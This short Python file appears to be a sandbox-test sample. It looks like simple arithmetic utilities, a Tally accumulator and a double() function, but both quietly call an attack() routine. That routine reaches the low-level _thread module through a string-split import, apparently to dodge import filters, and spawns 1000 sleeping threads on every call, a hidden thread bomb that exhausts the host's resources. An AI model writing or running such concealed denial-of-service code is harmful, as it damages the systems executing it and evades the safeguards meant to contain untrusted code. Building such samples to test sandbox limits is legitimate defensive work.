import time

start = __import__("_thr" + "ead").start_new_thread


def attack():
    for _ in range(1000):
        start(time.sleep, (60,))


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
